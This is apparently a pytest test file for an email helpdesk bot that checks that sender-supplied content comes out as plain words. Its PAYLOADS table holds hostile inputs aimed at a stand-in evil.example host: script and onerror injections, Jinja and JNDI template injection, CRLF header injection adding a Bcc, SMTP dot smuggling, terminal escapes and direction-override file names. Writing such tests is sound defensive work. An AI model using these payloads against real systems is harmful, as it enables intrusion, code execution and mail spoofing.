"""Whatever strangers write, the desk's letters say it as words: no field, tag, code or control of theirs works.

No HTML of a mail is ever shown: what people read is made from its words.
"""

import email
import email.policy
import re
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest

from csc_mailbot.adapters.database.books import SqlBooks
from csc_mailbot.adapters.templates import JinjaTemplates
from csc_mailbot.outbound.samples import sample_letters
from tests.acceptance.days.day import DESK, Day, Received, letter
from tests.unit.outbound.desk import DESK as CARD

EVIL = "evil.example"
CUSTOMER = "eva@cliente.example"
AGENT = "carmen@aserti.es"

PAYLOADS = {
    "a script": f"<script src=//{EVIL}/x.js>alert(1)</script>",
    "an image that runs": f'"><img src=x onerror=alert(1)><a href="javascript:alert(1)">{EVIL}</a>',
    "a form": f"</td></table><form action=//{EVIL}><input name=clave></form>",
    "a style": f"<style>*{{background:url(//{EVIL})}}</style><link rel=stylesheet href=//{EVIL}>",
    "a frame": f"<iframe src=//{EVIL}></iframe><meta http-equiv=refresh content='0;//{EVIL}'>",
    "a comment": "<!-- <!--[if mso]> --><![CDATA[x]]>",
    "entities": "&lt;script&gt; &#60;script&#62; &amp;",
    "a template": "{{ 7 * 191 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# x #}",
    "another template": "${7*191} #{7*191} <%= 7*191 %> {{''.__class__}} ${jndi:ldap://evil.example/a}",
    "a field": f"hola\r\nBcc: victima@{EVIL}\r\nX-Injected: 1\r\n\r\nbody",
    "a bare newline": f"hola\nBcc: victima@{EVIL}\rX-Injected: 1",
    "an encoded field": f"=?utf-8?q?hola=0D=0ABcc=3A_victima=40{EVIL}=0D=0A?=",
    "other line ends": f"hola\u2028Bcc: v@{EVIL}\u2029X-Injected: 1\x85X-Injected: 1\x0bX\x0cX",
    "a terminal": "\x1b[2J\x1b]0;dueño\x07\x1b[31mrojo\x9b2J\x08\x08",
    "directions": "\u202etxt.exe\u202c\u2066oculto\u2069\u200f",
    "markup": "[bold red]rojo[/] [link=http://evil.example]x[/link] [/]",
    "a formula": '=HYPERLINK("http://evil.example","ver")',
    "formats": "%s%n%x{0}{name!r}",
    "nothing": "\x00\x00",
    "a boundary": "--=_files_x\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "a dot": ".\r\nQUIT\r\n..\r\nMAIL FROM:<x@evil.example>",
}

_TAGS = frozenset(
    "html head meta title style body table tr td div p span strong a br h1 h2 ul li ol em b code".split()  # noqa: SIM905
)
_FIELDS = re.compile(
    r"(From|To|Cc|Subject|Date|Message-ID|In-Reply-To|References|Reply-To|Sender|Auto-Submitted|Importance|X-Priority|"
    r"X-Auto-Response-Suppress|X-CSC-Mailbot|Content-[A-Za-z-]+|MIME-Version|Thread-(?:Topic|Index)|Precedence)"
)


class Markup(HTMLParser):
    """The tags and attributes of a letter."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.links: list[list[str]] = []
        """Where each link leads, and what is read there."""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [[value or "", ""] for name, value in attrs if name in {"href", "src", "action", "background"}]

    def handle_data(self, data: str) -> None:
        if self.links and not self.links[-1][1]:
            self.links[-1][1] = data


def shipped_markup() -> Markup:
    """What the shipped letters are made of."""
    templates = JinjaTemplates()
    return Markup("".join(templates.render(sample.letter).html for sample in sample_letters(CARD)))


@pytest.fixture(scope="module")
def shipped() -> Markup:
    return shipped_markup()


def mail_with(payload: str, sender: str = CUSTOMER, subject: str = "Avería") -> bytes:
    """A mail that has the payload wherever a sender may write something."""
    folded = re.sub(r"[\r\n]", " ", payload).replace("\0", "")
    mail = EmailMessage(policy=email.policy.SMTP.clone(refold_source="none"))
    mail["To"] = DESK
    mail["Subject"] = "placeholder"
    mail.set_content(f"Buenos días:\n\n{payload}\n\nNo arranca el almacén desde las ocho.", cte="base64")
    mail.add_alternative(f"<html><body><p>{payload}</p><script>x()</script></body></html>", "html", cte="base64")
    mail.add_attachment(b"x", maintype="application", subtype="pdf", filename="placeholder.pdf")
    raw = mail.as_bytes()
    encoded = _encoded(f"{subject} {payload}")
    head = f"From: {_encoded(payload)} <{sender}>\r\nReply-To: {_encoded(payload)} <{sender}>\r\n"
    ascii_only = folded[:60].encode("ascii", "replace").decode()
    head += f"Message-ID: <{abs(hash(payload))}@cliente.example>\r\nX-Folded: {ascii_only}\r\n"
    raw = raw.replace(b"Subject: placeholder", f"Subject: {encoded}".encode())
    return head.encode() + raw.replace(b"placeholder.pdf", _encoded(payload + ".pdf").encode())


def _encoded(text: str) -> str:
    """As encoded words, in which any character may travel."""
    data = text.encode()
    pieces = [data[start : start + 30] for start in range(0, len(data), 30)] or [b""]
    return "\r\n ".join("=?utf-8?q?" + "".join(f"={byte:02X}" for byte in piece) + "?=" for piece in pieces)


async def played(day: Day, payload: str) -> list[Received]:
    """A customer writes, an agent answers, the customer goes on and a stranger in an agent's name meddles."""
    letters: list[Received] = []
    await day.post(mail_with(payload))
    letters += (first := day.letters())
    notice = next(one for one in first if one.to == AGENT)
    await day.post(
        letter(f"Carmen Vera <{AGENT}>", "Re: Avería", f"#esperando cliente\n\n{_typed(payload)}", answers=notice)
    )
    letters += day.letters()
    await day.post(mail_with(payload + " otra vez", subject="Re: [CSC-2026-000001]"))
    letters += day.letters()
    await day.post(mail_with(payload, sender=AGENT, subject="Re: [CSC-2026-000001]"))
    letters += day.letters()
    await day.wait(days=9)
    return letters + day.letters()


def _typed(payload: str) -> str:
    """As a person can type it into a mail."""
    return re.sub(r"[\r\n\x0b\x0c\x85\u2028\u2029]+", " ", payload).replace("\0", "") or "hola"


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
async def test_a_stranger_adds_nothing_to_letters_but_words(
    payload: str, file_books: SqlBooks, shipped: Markup
) -> None:
    letters = await played(Day(file_books), payload)
    assert {one.letter for one in letters} >= {"acknowledgement", "team_notice", "status_change"}
    for one in letters:
        check_fields(one)
        check_markup(one, shipped)
        check_text(one)


def check_fields(one: Received) -> None:
    names = one.mail.keys()
    assert [name for name in names if not _FIELDS.fullmatch(name)] == []
    assert len(names) == len({name.lower() for name in names})
    assert one.mail.get_all("To") == [one.mail["To"]]
    assert [address.addr_spec for address in one.mail["To"].addresses] == [one.to]
    assert all(_is_plain(str(value)) for value in one.mail.values())
    assert not any(part.get_content_type() == "text/html" for part in attachments(one))


def _is_plain(text: str) -> bool:
    """Marks of direction that turn nothing over are letters' own."""
    return text.replace("\u200f", "").isprintable()


def attachments(one: Received) -> Iterator[EmailMessage]:
    for part in one.mail.iter_attachments():
        assert isinstance(part, EmailMessage)
        yield part


def check_markup(one: Received, shipped: Markup) -> None:
    body = one.mail.get_body(("html",))
    assert body is not None
    found = Markup(str(body.get_content()))
    assert found.tags <= shipped.tags
    assert found.attributes <= shipped.attributes
    for link, read in found.links:
        # An agent's own words may name an address of the web: what is read is where it leads.
        assert re.match(r"mailto:|tel:|https://www\.aserti\.es", link) or link == read, link
        assert not re.match(r"mailto:[^?]*evil", link)


def check_text(one: Received) -> None:
    for form in ("plain", "html"):
        body = one.mail.get_body((form,))
        assert body is not None
        content = str(body.get_content())
        assert "1337" not in content, "a template of a stranger was carried out"
        controls = [char for char in content if not char.isprintable() and char not in "\n\r\t\u00a0\u200f"]
        assert controls == [], controls


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
async def test_names_of_files_are_kept_safe(payload: str, file_books: SqlBooks) -> None:
    await Day(file_books).post(mail_with(payload))
    files = file_books.look(_file_names)
    for name in files:
        assert name
        assert name.isprintable()
        assert not re.search(r'[/\\<>:"|?*]', name)
        assert not name.startswith(".")
        assert len(name) <= 150


def _file_names(records: object) -> list[str]:
    from sqlalchemy import select  # noqa: PLC0415

    from csc_mailbot.adapters.database.tables import attachment  # noqa: PLC0415

    return list(records.tickets._connection.scalars(select(attachment.c.name)))  # type: ignore[attr-defined]


async def test_a_mail_of_html_alone_is_shown_by_its_words(file_books: SqlBooks, shipped: Markup) -> None:
    mail = EmailMessage()
    mail["From"] = CUSTOMER
    mail["To"] = DESK
    mail["Subject"] = "Avería"
    mail["Message-ID"] = "<html@cliente.example>"
    mail.set_content(
        "<html><body onload=x()><h1>El almacén</h1><p style='x'>no <b>arranca</b></p>"
        "<img src='//evil.example/pixel.gif'>"
        "<a href='https://evil.example/entrar'>https://www.aserti.es</a></body></html>",
        subtype="html",
    )
    day = Day(file_books)
    await day.post(mail.as_bytes())
    letters = day.letters()
    notice = next(one for one in letters if one.to == AGENT)
    assert "arranca" in notice.text
    for one in letters:
        check_markup(one, shipped)
        assert "pixel.gif" not in one.mail.as_string()


def test_what_the_letters_are_made_of_can_do_nothing(shipped: Markup) -> None:
    assert shipped.tags <= _TAGS
    assert [name for _, name in shipped.attributes if name.startswith("on")] == []


async def test_the_team_is_warned_of_files_that_may_do_harm(file_books: SqlBooks) -> None:
    mail = EmailMessage()
    mail["From"] = CUSTOMER
    mail["To"] = DESK
    mail["Subject"] = "Factura"
    mail["Message-ID"] = "<factura@cliente.example>"
    mail.set_content("Adjunto la factura, no se abre en el puesto tres.")
    mail.add_attachment(b"MZ\x90\x00", maintype="application", subtype="pdf", filename="factura.pdf")
    day = Day(file_books)
    await day.post(mail.as_bytes())
    letters = day.letters()
    notice = next(one for one in letters if one.to == AGENT)
    assert "⚠ Cuidado: factura.pdf es un programa." in notice.text
    assert not any("⚠" in one.text for one in letters if one.to == CUSTOMER)
